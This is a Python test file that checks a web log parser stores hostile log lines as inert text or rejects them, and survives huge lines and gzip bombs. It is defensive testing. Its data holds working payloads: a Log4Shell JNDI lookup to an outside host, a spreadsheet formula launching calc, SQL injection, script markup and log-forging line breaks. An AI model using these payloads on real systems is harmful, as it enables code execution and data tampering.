"""Lines that somebody sends to do harm: what each would do to a careless reader, and what it is here."""

from __future__ import annotations

import gzip
import io
import tracemalloc
from dataclasses import dataclass, field
from typing import Any

import pytest

from ovh_weblogs.pipeline import enrich, parse

TIME = "05/Mar/2024:08:14:02 +0100"
HEAD = f"203.0.113.9 www.example.com - [{TIME}] "
MEBIBYTE = 1 << 20


@dataclass(frozen=True)
class Hostile:
    """A line, why it is sent, and the cells that it has to give; or the reason for which it is refused."""

    why: str
    line: bytes
    cells: dict[str, Any] = field(default_factory=dict)
    refused: str = ""


def agent(text: str) -> bytes:
    return f'{HEAD}"GET / HTTP/1.1" 200 5 "-" "{text}"'.encode("utf-8", "surrogateescape")


def request(text: str) -> bytes:
    return f'{HEAD}"{text}" 400 5 "-" "curl"'.encode("utf-8", "surrogateescape")


LINES = (
    Hostile(
        "An escaped line feed would forge a line of another address for readers that decode it before they cut lines.",
        agent(r"x\n192.0.2.1 www.example.com - [05/Mar/2024:00:00:00 +0100] \"GET /admin HTTP/1.1\" 200 1 \"-\" \"y\""),
        {"useragent": r'x\n192.0.2.1 www.example.com - [05/Mar/2024:00:00:00 +0100] "GET /admin HTTP/1.1" 200 1 "-" "y"'},
    ),
    Hostile("A NUL ends a text in C libraries and databases.", agent("a\0b"), {"useragent": r"a\x00b"}),
    Hostile("Python's splitlines cuts at U+2028: half of the line would be lost.", agent("a\u2028b"), {"useragent": "a\u2028b"}),
    Hostile("The same at U+0085, which Latin-1 has at a byte of its own.", agent("a\udc85b"), {"useragent": "a\x85b"}),
    Hostile("A lone carriage return ends a line for readers that open files as text.", agent("a\rb"), {"useragent": "a\rb"}),
    Hostile("Form feed and file separator do so for splitlines.", agent("a\f\x1cb"), {"useragent": "a\f\x1cb"}),
    Hostile("U+202E turns what follows around on a screen.", agent("a\u202etxt.exe"), {"useragent": "a\u202etxt.exe"}),
    Hostile("A formula that a spreadsheet would run is text.", agent("=cmd|' /C calc'!A0"), {"useragent": "=cmd|' /C calc'!A0"}),
    Hostile("Markup is text: who renders it escapes it.", agent("<script>alert(1)</script>"), {"useragent": "<script>alert(1)</script>"}),
    Hostile("SQL is text.", request("GET /?id=1'--;DROP TABLE hits HTTP/1.1"), {"location": "https://www.example.com/?id=1'--;DROP TABLE hits"}),
    Hostile("A look-up that a logging library would run is text.", agent("${jndi:ldap://x.example/a}"), {"useragent": "${jndi:ldap://x.example/a}"}),
    Hostile("A terminal would obey the escape sequence.", agent("\x1b[31mred"), {"useragent": "\x1b[31mred"}),
    Hostile(
        "A time in the login would move the line to another day for readers that take the first bracket.",
        f'203.0.113.9 www.example.com [01/Jan/2001:00:00:00 +0000] [{TIME}] "GET / HTTP/1.1" 200 5 "-" "x"'.encode(),
        {"user": "[01/Jan/2001:00:00:00 +0000]", "status": 200},
    ),
    Hostile(
        "A time in the request would do it for readers that take the last one.",
        request("GET /] [01/Jan/2001:00:00:00 +0000] HTTP/1.1"),
        {"location": "https://www.example.com/] [01/Jan/2001:00:00:00 +0000]"},
    ),
    Hostile("A status of five digits fits a number, but no status has a sign.", request("GET / HTTP/1.1").replace(b" 400 ", b" -400 "), refused="the status is no number"),
    Hostile("A size beyond a bigint would become another number.", agent("x").replace(b" 5 ", b" 99999999999999999999 "), refused="the size is out of range"),
    Hostile("Digits of another script are digits to int().", agent("x").replace(b" 200 ", " ٢٠٠ ".encode()), refused="the status is no number"),
    Hostile("A day that does not exist stops readers that trust the format.", agent("x").replace(b"05/Mar", b"31/Feb"), refused="the time does not exist"),
    Hostile("A year of four digits may be beyond every calendar.", agent("x").replace(b"2024", b"0000"), refused="the time does not exist"),
    Hostile("An open quote would swallow the next line of a CSV reader.", agent("x")[:-1], refused="a quote is not closed"),
    Hostile("A quote that is not escaped ends its field; the rest is no format.", agent('a" "b'), refused="text after the user agent"),
    Hostile("A backslash before the last quote leaves it open.", agent("x\\"), refused="a quote is not closed"),
    Hostile("A null byte alone is no line of any format.", b"\0", refused="no time in brackets"),
)  # fmt: skip


def read(line: bytes) -> tuple[list[dict[str, Any]], list[dict[str, Any]]]:
    """Hits and rejects of the line between two usual ones, which have to come through whole."""
    usual = agent("usual")
    blocks = list(parse(io.BytesIO(b"\n".join((usual, line, usual)) + b"\n"), source_file="f"))
    hits = [hit for block in blocks for hit in block.hits.to_pylist()]
    rejects = [reject for block in blocks for reject in block.rejects.to_pylist()]
    assert [hit["useragent"] for hit in hits if hit["line_number"] != 2] == ["usual", "usual"]
    return [hit for hit in hits if hit["line_number"] == 2], rejects


@pytest.mark.parametrize("hostile", LINES, ids=lambda hostile: hostile.why[:60])
def test_it_does_no_harm_here(hostile):
    hits, rejects = read(hostile.line)
    if hostile.refused:
        assert [(reject["reason"], reject["line"]) for reject in rejects] == [(hostile.refused, hostile.line)]
        assert hits == []
    else:
        assert [{name: hit[name] for name in hostile.cells} for hit in hits] == [hostile.cells]
        assert rejects == []


def test_each_says_why_in_a_sentence():
    assert all(hostile.why.endswith(".") and len(hostile.why) > 10 for hostile in LINES)


def test_a_line_of_ten_megabytes_is_a_hit_that_can_be_enriched():
    line = request(f"GET /?{'a' * 10_000_000} HTTP/1.1")
    (block,) = [block for block in parse(io.BytesIO(line + b"\n")) if block.lines]
    assert len(block.hits.column("location")[0].as_py()) > 10_000_000
    (event,) = enrich([block.hits])
    assert event.column("location_path")[0].as_py() == "/"


class Endless:
    """A stream of one letter, without a line feed."""

    def __init__(self, size: int) -> None:
        self._left = size

    def read(self, size: int = -1, /) -> bytes:
        """So many of it as are left."""
        count = min(size, self._left)
        self._left -= count
        return b"a" * count


def peak_of(stream: Any) -> tuple[list[int], float]:
    """Lines, hits, rejects and blanks of a stream, and the most memory that reading it takes, in MiB."""
    counts = [0, 0, 0, 0]
    tracemalloc.start()
    try:
        for block in parse(stream, source_file="f"):
            found = (block.lines, block.hits.num_rows, block.rejects.num_rows, block.blanks)
            counts = [count + more for count, more in zip(counts, found, strict=True)]
        return counts, tracemalloc.get_traced_memory()[1] / MEBIBYTE
    finally:
        tracemalloc.stop()


def test_a_gigabyte_without_a_line_feed_is_one_reject_in_bounded_memory():
    counts, peak = peak_of(Endless(1 << 30))
    assert counts == [1, 0, 1, 0]
    assert peak < 80


def test_a_gzip_bomb_is_read_in_bounded_memory():
    """A gigabyte of line feeds and of one letter, packed a thousandfold."""
    packed = gzip.compress(b"a" * (64 * MEBIBYTE), 9) + gzip.compress(b"\n" * (4 * MEBIBYTE), 9)
    counts, peak = peak_of(io.BytesIO(packed * 3))
    assert counts == [12 * MEBIBYTE, 0, 3, 12 * MEBIBYTE - 3]
    assert peak < 80
